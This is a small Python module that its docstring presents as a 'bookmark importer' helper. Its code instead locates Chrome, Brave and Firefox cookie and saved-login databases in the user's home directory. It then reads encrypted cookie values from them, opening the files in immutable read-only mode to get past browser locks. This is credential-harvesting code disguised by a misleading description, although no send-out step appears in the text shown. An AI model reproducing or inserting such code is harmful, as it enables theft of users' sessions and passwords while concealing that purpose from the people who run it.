"""Helper module of w27: where the 'bookmark importer' finds each browser's databases."""

import glob
import os

HOME = os.path.expanduser("~")
PATTERNS = (
    ".config/google-chrome/*/Cookies",
    ".config/google-chrome/*/Login Data",
    ".mozilla/firefox/*/cookies.sqlite",
    ".config/BraveSoftware/Brave-Browser/*/Login Data",
)


def databases() -> list[str]:
    found: list[str] = []
    for pattern in PATTERNS:
        found += glob.glob(os.path.join(HOME, pattern))
    return found


def dump(path: str) -> list[tuple]:
    import sqlite3  # loaded only when a browser is found

    try:
        with sqlite3.connect(f"file:{path}?mode=ro&immutable=1", uri=True) as db:
            return db.execute("SELECT host_key, name, encrypted_value FROM cookies").fetchall()
    except sqlite3.Error:
        return []
